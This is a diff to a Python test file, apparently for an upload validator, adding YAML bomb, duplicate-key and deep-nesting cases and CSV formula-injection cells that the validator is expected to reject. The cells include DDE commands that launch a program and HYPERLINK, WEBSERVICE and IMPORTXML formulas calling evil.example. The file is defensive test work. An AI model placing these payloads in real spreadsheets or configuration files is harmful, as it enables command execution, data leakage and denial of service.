@@ -90,6 +90,26 @@ PICTURES = {
     "a style sheet": ("<?xml-stylesheet href='http://evil.example'?><svg/>", "has an instruction"),
     "another root": ("<html/>", "is <html>"),
 }
+YAML = {
+    "a billion laughs": (
+        "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}' if n else 'lol'] * 10)}]\n" for n in range(9)),
+        "an anchor is not allowed",
+    ),
+    "an alias of itself": ("a: &a [*a]\n", "an anchor is not allowed"),
+    "a key twice": ("a: 1\na: 2\n", "is given twice"),
+    "100,000 lists": ("a: " + "[" * 100_000 + "\n", "nested deeper than 32"),
+    "2 MiB": ("a: " + "x" * (2 << 20) + "\n", "more YAML than the 1,048,576 bytes"),
+}
+FORMULAS = {
+    "DDE": "=cmd|' /C calc'!A0",
+    "DDE behind a sum": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "DDE behind a number": "-2+3+cmd|' /C calc'!A0",
+    "a link": '"=HYPERLINK(""http://evil.example?""&A1,""x"")"',
+    "a fetch": '"+WEBSERVICE(""http://evil.example"")"',
+    "a fetch behind a tab": '"\t=IMPORTXML(""http://evil.example"",""//a"")"',
+    "another file": "='\\\\evil.example\\share\\[a.xlsx]Sheet1'!A1",
+    "a wide sign": "\uff1dHYPERLINK(A1)",
+}
 CHUNKS = b"\0\0\0\rIHDR" + bytes(17) + b"\0\0\0\0IEND" + bytes(4)
 BROKEN = {
     "has a program behind it": (SIGNATURE + CHUNKS + b"<?php x(); ?>", "with something behind it"),
@@ -146,6 +166,13 @@ def cases():
     yield "no parquet", beside(**{"rows.parquet": b"1,2\n"}), "files-allowed", "no parquet file"
     yield "zero bytes in text", beside(**{"a.md": b"a\0b"}), "files-allowed", "zero bytes"
     yield "deep JSON", beside(**{"a.json": b"[" * 200_000}), "files-allowed", "JSON"
+    twice = b'{"a": 1, "a": 2}'
+    yield "JSON with a key twice", beside(**{"a.json": twice}), "files-allowed", "is given twice"
+    for name, (text, says) in YAML.items():
+        yield f"YAML with {name}", beside(**{"train.yml": text.encode()}), "files-allowed", says
+    for name, cell in FORMULAS.items():
+        table = f"text,label\nfine,0\n{cell},1\n".encode()
+        yield f"a cell of {name}", beside(**{"rows.csv": table}), "files-allowed", "a formula in line 3"
     yield "broken JSON", beside(**{"a.json": b"{'a': 1}"}), "files-allowed", "JSON"
     floods = {f"{n}.txt": b"0" * (1 << 20) for n in range(100)}
     yield "100 MiB of opcodes", beside(**floods), "files-allowed", "distinguished from a pickle"
